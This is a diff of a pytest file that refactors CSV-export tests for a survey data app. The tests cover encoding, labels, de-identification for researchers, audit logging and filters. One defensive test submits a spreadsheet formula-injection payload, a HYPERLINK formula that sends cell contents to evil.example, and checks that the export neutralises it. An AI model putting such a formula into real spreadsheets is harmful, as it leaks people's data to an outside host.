@@ -9,29 +9,7 @@ import io
 import pytest
 
 from fieldapp.extensions import db
-from tests.helpers import (
-    SCREENING,
-    api_token,
-    login,
-    post_submission,
-    screening_answers,
-    submission_xml,
-    switch_user,
-)
-
-
-@pytest.fixture
-def send(app, client, world):
-    """Send answers to a form as the mediator; return the instance ID."""
-    token = api_token(app, world.mediator)
-
-    def _send(answers, form_id="family_screening", version="2026112901"):
-        xml, iid = submission_xml(form_id, version, answers)
-        resp = post_submission(client, xml, token=token)
-        assert resp.status_code == 201, resp.data
-        return iid
-
-    return _send
+from tests.helpers import SCREENING, login, screening_answers, switch_user, xlsform
 
 
 def _download(client, world, query="", as_researcher=False) -> tuple[bytes, list[dict]]:
@@ -49,9 +27,8 @@ def _download(client, world, query="", as_researcher=False) -> tuple[bytes, list
     return raw, rows
 
 
-def test_csv_opens_in_excel_with_chinese_and_one_column_per_question(client, world, publish, send):
-    publish(SCREENING)
-    iid = send(screening_answers())
+def test_csv_opens_in_excel_with_chinese_and_one_column_per_question(client, world, submit):
+    [iid] = submit(SCREENING, [screening_answers()])
     raw, rows = _download(client, world)
     assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads it as UTF-8
     assert len(rows) == 1
@@ -67,19 +44,19 @@ def test_csv_opens_in_excel_with_chinese_and_one_column_per_question(client, wor
     assert "intro" not in row and "meta/instanceID" not in row  # notes and the key
 
 
-def test_select_multiple_is_joined_and_split_with_blank_when_unanswered(
-    client, world, publish, send
-):
-    publish(SCREENING)
-    send(screening_answers())
-    send(
-        screening_answers(
-            **{
-                "situation.has_conflict": "no",
-                "situation.conflict_types": "",
-                "risk.referral": "none",
-            }
-        )
+def test_select_multiple_is_joined_and_split_with_blank_when_unanswered(client, world, submit):
+    submit(
+        SCREENING,
+        [
+            screening_answers(),
+            screening_answers(
+                **{
+                    "situation.has_conflict": "no",
+                    "situation.conflict_types": "",
+                    "risk.referral": "none",
+                }
+            ),
+        ],
     )
     _, rows = _download(client, world)
     chosen, unanswered = rows
@@ -94,9 +71,8 @@ def test_select_multiple_is_joined_and_split_with_blank_when_unanswered(
     assert unanswered["risk/referral/none"] == "1" and unanswered["risk/referral/police"] == "0"
 
 
-def test_labels_instead_of_codes_in_either_language(client, world, publish, send):
-    publish(SCREENING)
-    send(screening_answers())
+def test_labels_instead_of_codes_in_either_language(client, world, submit):
+    submit(SCREENING, [screening_answers()])
     _, rows = _download(client, world, "?values=labels")
     assert rows[0]["situation/has_conflict"] == "是"
     assert rows[0]["risk/risk_level"] == "高"
@@ -106,17 +82,14 @@ def test_labels_instead_of_codes_in_either_language(client, world, publish, send
     assert rows[0]["situation/has_conflict"] == "Yes"
 
 
-def test_plain_utf8_without_bom_on_request(client, world, publish, send):
-    publish(SCREENING)
-    send(screening_answers())
+def test_plain_utf8_without_bom_on_request(client, world, submit):
+    submit(SCREENING, [screening_answers()])
     raw, _ = _download(client, world, "?bom=0")
     assert raw.startswith(b"instance_id,")
 
 
-def test_submissions_of_two_versions_export_together(app, client, world, publish, send, tmp_path):
+def test_submissions_of_two_versions_export_together(client, world, publish, submit, tmp_path):
     """Columns are the union of both versions, matched by question name."""
-    from tests.test_surveys import xlsform
-
     v1 = tmp_path / "visits.xlsx"
     v1.write_bytes(
         xlsform(
@@ -133,8 +106,8 @@ def test_submissions_of_two_versions_export_together(app, client, world, publish
     )
     publish(v1)
     publish(v2)
-    send({"age": "30", "note_old": "旧"}, form_id="visits", version="1")
-    send({"age": "31", "town": "青石镇"}, form_id="visits", version="2")
+    submit("visits", [{"age": "30", "note_old": "旧"}], version="1")
+    submit("visits", [{"age": "31", "town": "青石镇"}], version="2")
     login(client, world.researcher)
     text = client.get("/data/visits/export.csv").get_data(as_text=True).lstrip("\ufeff")
     rows = list(csv.DictReader(io.StringIO(text)))
@@ -144,11 +117,10 @@ def test_submissions_of_two_versions_export_together(app, client, world, publish
     ]
 
 
-def test_the_cli_exports_the_same_csv(app, world, publish, send, runner, tmp_path, monkeypatch):
+def test_the_cli_exports_the_same_csv(app, submit, runner, tmp_path, monkeypatch):
     from fieldapp.cli import main
 
-    publish(SCREENING)
-    send(screening_answers())
+    submit(SCREENING, [screening_answers()])
     monkeypatch.setenv("FIELDAPP_DATABASE_URL", app.config["DATABASE_URL"])
     monkeypatch.setenv("FIELDAPP_INSTANCE_PATH", app.config["INSTANCE_PATH"])
     out = tmp_path / "out.csv"
@@ -158,24 +130,24 @@ def test_the_cli_exports_the_same_csv(app, world, publish, send, runner, tmp_pat
     assert rows[0]["household_info/household_head"] == "李梅"
 
 
-def test_answers_that_look_like_formulas_stay_inert_in_excel(client, world, publish, send):
-    publish(SCREENING)
-    send(screening_answers(remarks='=HYPERLINK("http://evil.example/?d="&D2,"点击")'))
+def test_answers_that_look_like_formulas_stay_inert_in_excel(client, world, submit):
+    submit(
+        SCREENING, [screening_answers(remarks='=HYPERLINK("http://evil.example/?d="&D2,"点击")')]
+    )
     _, rows = _download(client, world)
     assert rows[0]["remarks"] == '\'=HYPERLINK("http://evil.example/?d="&D2,"点击")'
     assert rows[0]["household/household_members[1]/member_age"] == "41"  # numbers untouched
 
 
-def test_huge_page_numbers_show_an_empty_page(client, world, publish, send):
+def test_huge_page_numbers_show_an_empty_page(client, world, publish):
     publish(SCREENING)
     login(client, world.researcher)
     assert client.get("/data/family_screening?page=99999999999999999999").status_code == 200
 
 
-def test_a_researcher_gets_no_direct_identifier(app, client, world, publish, send):
-    publish(SCREENING)
-    send(screening_answers())
-    send(screening_answers(**{"household_info.household_head": "李梅"}))  # same household
+def test_a_researcher_gets_no_direct_identifier(client, world, submit):
+    same_household = {"household_info.household_head": "李梅"}
+    submit(SCREENING, [screening_answers(), screening_answers(**same_household)])
     raw, rows = _download(client, world, as_researcher=True)
     text = raw.decode("utf-8-sig")
     for identifying in ("李梅", "张小雨", "13812345678", "和平社区3栋12号"):
@@ -190,13 +162,12 @@ def test_a_researcher_gets_no_direct_identifier(app, client, world, publish, sen
     assert resp.status_code == 403
 
 
-def test_every_export_is_audited_with_whether_it_identified(app, client, world, publish, send):
+def test_every_export_is_audited_with_whether_it_identified(app, client, world, submit):
     from sqlalchemy import select
 
     from fieldapp.audit.models import AuditEvent
 
-    publish(SCREENING)
-    send(screening_answers())
+    submit(SCREENING, [screening_answers()])
     _download(client, world, as_researcher=True)
     _download(client, world)
     with app.app_context():
@@ -206,9 +177,8 @@ def test_every_export_is_audited_with_whether_it_identified(app, client, world, 
         assert [e.detail["identifying"] for e in events] == [False, True]
 
 
-def test_filters_narrow_the_export(client, world, publish, send):
-    publish(SCREENING)
-    send(screening_answers())
+def test_filters_narrow_the_export(client, world, submit):
+    submit(SCREENING, [screening_answers()])
     _, rows = _download(client, world, "?area=339901001001")
     assert len(rows) == 1
     _, rows = _download(client, world, "?area=339902")
@@ -222,7 +192,7 @@ def test_filters_narrow_the_export(client, world, publish, send):
     assert resp.status_code == 400 and "日期" in resp.get_data(as_text=True)
 
 
-def test_an_xls_questionnaire_marks_its_identifiers_too(client, world, publish, send, tmp_path):
+def test_an_xls_questionnaire_marks_its_identifiers_too(client, world, submit, tmp_path):
     """Some authors still save the old .xls format: its fieldapp::identifier column
     counts the same as in .xlsx."""
     import xlwt
@@ -244,8 +214,7 @@ def test_an_xls_questionnaire_marks_its_identifiers_too(client, world, publish, 
                 sheet.write(r, c, value)
     path = tmp_path / "legacy_visit.xls"
     book.save(str(path))
-    publish(path)
-    send({"woman_name": "赵秀英", "phone": "13900001111", "age": "52"}, "legacy_visit", "1")
+    submit(path, [{"woman_name": "赵秀英", "phone": "13900001111", "age": "52"}])
     switch_user(client, world.researcher)
     text = client.get("/data/legacy_visit/export.csv").get_data(as_text=True)
     row = next(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
